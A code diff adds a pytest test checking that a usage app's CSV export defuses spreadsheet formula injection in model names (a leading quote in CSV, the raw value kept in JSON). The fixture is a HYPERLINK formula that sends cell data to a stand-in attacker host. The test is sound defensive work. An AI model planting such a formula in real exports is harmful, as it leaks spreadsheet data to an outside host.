@@ -234,3 +234,24 @@ def test_a_cached_overview_gives_way_to_a_newly_recorded_run(
     shown = page.get(app.url("/usage-api"), timeout=TIMEOUT).text
     assert "not reconciled yet" not in shown
     assert "failed: timeout" not in shown
+
+
+def test_the_csv_export_defuses_spreadsheet_formulas_in_names(tmp_path: Path) -> None:
+    # Model names come from logs and from OpenAI: a cell starting "=" ran as a formula when the
+    # export was opened in a spreadsheet (OWASP "CSV injection").
+    day = date(2026, 3, 15)
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"x")'
+    url = f"sqlite:///{tmp_path / 'formula.db'}"
+    with HistoryStore(url) as store:
+        record_day(store, day, {evil: usage(1000, 1, "0.10")}, {evil: usage(1000, 1, "0.10")})
+    with serving(url) as app:
+        answer = requests.get(
+            app.url(f"/usage-api?format=csv&start_date={day}&end_date={day}"),
+            headers=BEARER,
+            timeout=TIMEOUT,
+        )
+        doc = overview_json(app, f"&start_date={day}&end_date={day}")
+    [row] = list(csv.DictReader(io.StringIO(answer.text)))
+    assert row["model"] == "'" + evil
+    assert row["local_cost"] == "0.100000"  # numbers, negative ones too, stay numbers
+    assert doc["breakdown"][0]["model"] == evil  # type: ignore[index]  # JSON is data, kept as is
